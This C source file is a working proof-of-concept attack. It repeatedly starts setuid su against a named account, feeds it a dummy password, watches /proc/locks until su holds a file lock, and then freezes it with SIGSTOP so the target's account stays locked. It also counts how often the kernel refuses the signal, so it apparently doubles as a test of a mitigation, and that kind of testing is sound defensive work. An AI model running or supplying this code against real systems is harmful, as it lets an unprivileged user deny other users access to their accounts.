/*
 * An ordinary user who wants to freeze somebody else's account: starts setuid su again and again, gives it a
 * code, watches /proc/locks until su holds a lock, and stops it there. What is stopped stays stopped.
 *
 * usage: stopper SECONDS TARGET. Prints how often su was seen with a lock, and how often the kernel refused.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MOST_STOPPED 32

static pid_t start_su(const char *target) {
    int input[2], nowhere = open("/dev/null", O_WRONLY);
    if (pipe(input))
        exit(70);
    pid_t pid = fork();
    if (pid == 0) {
        dup2(input[0], STDIN_FILENO);
        dup2(nowhere, STDOUT_FILENO);
        dup2(nowhere, STDERR_FILENO);
        close(input[1]);
        execlp("su", "su", target, "-c", "true", (char *)NULL);
        _exit(70);
    }
    close(input[0]);
    close(nowhere);
    if (write(input[1], "123456\n", 7) != 7)
        exit(70);
    close(input[1]);
    return pid;
}

/* Whether `pid` holds a flock now. A waiting one is marked with an arrow. */
static int holds_lock(pid_t pid) {
    static char text[65536];
    char wanted[64];
    int file = open("/proc/locks", O_RDONLY);
    ssize_t length = read(file, text, sizeof text - 1);
    close(file);
    text[length > 0 ? length : 0] = 0;
    snprintf(wanted, sizeof wanted, " %d ", pid);
    for (char *line = strtok(text, "\n"); line; line = strtok(NULL, "\n"))
        if (strstr(line, "FLOCK") && !strstr(line, "->") && strstr(line, wanted))
            return 1;
    return 0;
}

int main(int argc, char **argv) {
    if (argc != 3)
        return 64;
    time_t end = time(NULL) + atoi(argv[1]);
    pid_t stopped[MOST_STOPPED] = {0};
    int seen = 0, refused = 0, next = 0;
    while (time(NULL) < end) {
        pid_t pid = start_su(argv[2]);
        struct timespec now, start;
        clock_gettime(CLOCK_MONOTONIC, &start);
        for (;;) {
            if (holds_lock(pid)) {
                seen++;
                if (kill(pid, SIGSTOP) && errno == EPERM)
                    refused++;
                break;
            }
            clock_gettime(CLOCK_MONOTONIC, &now);
            /* Too late for this one: stop it wherever it is. */
            if ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000 > 40) {
                kill(pid, SIGSTOP);
                break;
            }
        }
        pid_t oldest = stopped[next];
        stopped[next] = pid;
        next = (next + 1) % MOST_STOPPED;
        if (oldest) {
            kill(oldest, SIGKILL);
            waitpid(oldest, NULL, 0);
        }
    }
    for (int i = 0; i < MOST_STOPPED; i++)
        if (stopped[i])
            kill(stopped[i], SIGKILL);
    printf("seen=%d\nrefused=%d\n", seen, refused);
    return 0;
}
